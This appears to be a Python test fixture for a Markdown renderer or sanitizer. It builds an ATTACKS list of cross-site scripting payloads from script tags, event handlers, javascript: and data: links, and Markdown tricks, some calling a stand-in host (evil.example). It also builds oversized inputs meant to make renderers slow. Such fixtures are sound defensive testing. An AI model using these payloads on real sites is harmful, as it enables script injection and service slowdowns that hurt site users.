"""Hostile texts of our own making: attempts to get a script, a handler, a picture or a foreign element into a page."""

_PAYLOADS = (
    "alert(1)",
    "alert`1`",
    "fetch('//evil.example')",
)
_TAGS = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src=//evil.example></script>", "<script/x>{0}</script>",
    "<<script>{0}//<</script>", "<img src=x onerror={0}>", "<img src='x' onerror='{0}'>", "<svg onload={0}>",
    "<svg><script>{0}</script></svg>", "<svg><a xlink:href='javascript:{0}'>x</a></svg>", "<body onload={0}>",
    "<iframe src='javascript:{0}'></iframe>", "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<object data='javascript:{0}'></object>", "<embed src='javascript:{0}'>", "<form action='javascript:{0}'><button>",
    "<input onfocus={0} autofocus>", "<select onfocus={0} autofocus>", "<textarea onfocus={0} autofocus>",
    "<details open ontoggle={0}>", "<video><source onerror={0}></video>", "<audio src onerror={0}>",
    "<marquee onstart={0}>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<base href='javascript:{0}//'>",
    "<link rel=stylesheet href='javascript:{0}'>", "<style>@import 'javascript:{0}';</style>",
    "<div style='background:url(javascript:{0})'>", "<math><mi xlink:href='javascript:{0}'>x</mi></math>",
    "<table background='javascript:{0}'>", "<p id=x onclick={0}>x</p>", "<a href='javascript:{0}'>x</a>",
    "<a href=javascript&colon;{0}>x</a>", "<a href='\x01javascript:{0}'>x</a>", "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<!--><script>{0}</script>", "<![CDATA[<script>{0}</script>]]>",
    "<?xml version='1.0'?><script>{0}</script>", "<x/onclick={0}>", "<button formaction='javascript:{0}'>x",
    "</p><script>{0}</script>", "<plaintext><script>{0}</script>", "<xmp><script>{0}</script></xmp>",
    "<title><script>{0}</script></title>", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;",
)  # fmt: skip
_LINKS = (
    "[x](javascript:{0})", "[x](JAVASCRIPT:{0})", "[x](javascript&#58;{0})", "[x](&#x6A&#x61vascript:{0})",
    "[x](<javascript:{0}>)", "[x]( javascript:{0})", "[x](java\tscript:{0})", "[x](java\nscript:{0})",
    "[x](data:text/html,<script>{0}</script>)", "[x](vbscript:{0})", "[x](//evil.example '\" onclick={0}')",
    "[x](https://a.example/\"onmouseover=\"{0})", "[x](https://a.example 'a\" onmouseover=\"{0}')",
    "[x][y]\n\n[y]: javascript:{0}", "[y]: https://a.example \"' onclick={0}\"\n\n[y]", "<javascript:{0}>",
    "<https://a.example/\"onclick={0}>", "![x](javascript:{0})", "![x\" onerror=\"{0}](https://a.example/x.png)",
    "![x](x \"y\" onerror={0})", "![](data:image/svg+xml,<svg onload={0}>)", "[![x](javascript:{0})](javascript:{0})",
    "`</code><script>{0}</script>`", "```html\n</code></pre><script>{0}</script>\n```", "~~<script>{0}</script>~~",
    "**<img src=x onerror={0}>**", "> <script>{0}</script>", "- <script>{0}</script>", "# <script>{0}</script>",
    "|<script>{0}</script>|b|\n|---|---|\n|<img src=x onerror={0}>|x|", "\\<script>{0}\\</script>", "a<br onclick={0}>b",
    "[x](https://a.example/?q=<script>{0}</script>)", "http://a.example/<script>{0}</script>", "<a@b.example\"onclick={0}>",
    "\x02klzzwxh:0000\x03<script>{0}</script>", "[x](\x02amp\x03#106;avascript:{0})", "&\x00lt;script>{0}",
    "[a]: <script>{0}</script>\n\n[a][a]", "{{: onclick={0} }}", "x {{: .y onclick={0} }}", "[x](#){{onclick={0}}}",
)  # fmt: skip

ATTACKS = [
    pattern.replace("{{", "{").replace("}}", "}").replace("{0}", payload)
    for payload in _PAYLOADS
    for pattern in _TAGS + _LINKS
]

# Patterns that make Markdown renderers slow, each as long as a text may be.
_SLOW_UNITS = (
    "[", "![", "[^", "](", "[](", "[a](", "[a](<b", "[a]: ", "[a][", "*", "**", "*a ", "**a ", "_", "__a", "***a", "`", "``a",
    "`a", "``\\", "``a`", "```a````", "~", "~~", "~~a", "<", "<a ", "<!--", "<http://a", "<a@b", "&", "&#", "\\", "|", "|a\n|-\n",
    ">", "> a\n", "- a\n", "  - a\n", "1. a\n", "#", "# a\n", "a\n---\n", "===\n", "    a\n", "\t", "\n", "a  \n", "http://",
    "\x02klzzwxh:0001\x03", '[a](b "', "(", ")", "]", "!", "[[a]", "*_", "_*", "**_a",
)  # fmt: skip
SLOW_TEXTS = [(unit * 20_000)[:20_000] for unit in _SLOW_UNITS] + ["[" * 100_000, "![" * 1_600, "[^" * 1_600]
